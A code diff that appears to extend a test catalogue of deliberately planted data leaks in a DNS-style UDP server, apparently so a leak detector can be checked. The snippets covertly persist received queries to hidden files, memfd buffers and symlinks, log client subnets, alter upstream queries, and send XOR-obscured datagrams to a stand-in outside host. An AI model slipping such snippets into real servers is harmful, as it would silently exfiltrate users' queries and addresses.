@@ -206,6 +206,68 @@ LEAKS = (
         (*_HEARD, _after(_OBSERVER, _TOLD, f"        told['last'] = {_SEEN}")),
     ),
     Leak(
+        *("a file in shared memory", 4, "file shm/seen: ordinary (text)"),
+        (_received("open('/dev/shm/seen', 'ab').write(data)"),),
+    ),
+    Leak(
+        *("a file in memory, without a name", 4, "nameless file of the worker: "),
+        (_received(_IF_MARKED + "import os; os.write(os.memfd_create('buffer'), data)"),),
+    ),
+    Leak(
+        *("a file beside the code", 4, "file seen.py: written beside the code"),
+        (_received("open(__file__.replace('udp.py', 'seen.py'), 'ab').write(data)"),),
+    ),
+    Leak(
+        *("a file that is replaced by another", 4, "announced: ordinary (text)"),
+        (
+            _received(
+                "import os; old, new = (f'/tmp/{word}{os.getpid()}' for word in ('old', 'new'));"
+                " open(old, 'wb').write(data); open(new, 'wb').close(); os.replace(new, old)"
+            ),
+        ),
+    ),
+    Leak(
+        *("where a link leads", 4, "file tmp/link"),
+        (
+            _received(
+                f"{_IF_MARKED}import os; link = f'/tmp/link{{os.getpid()}}';"
+                f" os.path.lexists(link) or os.symlink({_LABEL}, link)"
+            ),
+        ),
+    ),
+    Leak(
+        *("a shortened hash of a whole name", 4, "journal: ordinary (hex of sha1 of wire)"),
+        (
+            _received(
+                "import hashlib, sys; wire = bytes(data[12 : data.find(0, 12) + 1]).lower();"
+                " print(hashlib.sha1(wire).hexdigest()[:16], file=sys.stderr, flush=True)"
+            ),
+        ),
+    ),
+    Leak(
+        *("the neighbourhood of a client", 5, "syslog: client (text)"),
+        (_received("import syslog; syslog.syslog(address[0].rpartition('.')[0] + '.0/24')"),),
+    ),
+    Leak(
+        *("a datagram in a cipher of its own", 5, "packet over wire to port 5556: to a stranger"),
+        (
+            _received(
+                "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM);"
+                " s.sendto(bytes(b ^ 85 for b in data), ('192.0.2.99', 5556))"
+            ),
+        ),
+    ),
+    Leak(
+        *("a name below another one, asked upstream", 5, "query to an upstream: a name below another zone"),
+        (
+            _before(
+                *(_UPSTREAM, "            sock.send(query.data)\n"),
+                "            end = 12 + query.data[12:].find(0)",
+                "            sock.send(query.data[:end] + b'\\x04test' + query.data[end:])",
+            ),
+        ),
+    ),
+    Leak(
         *("locals in a traceback", 5, "journal: broken (text)"),
         (
             _raised("ValueError(1)"),
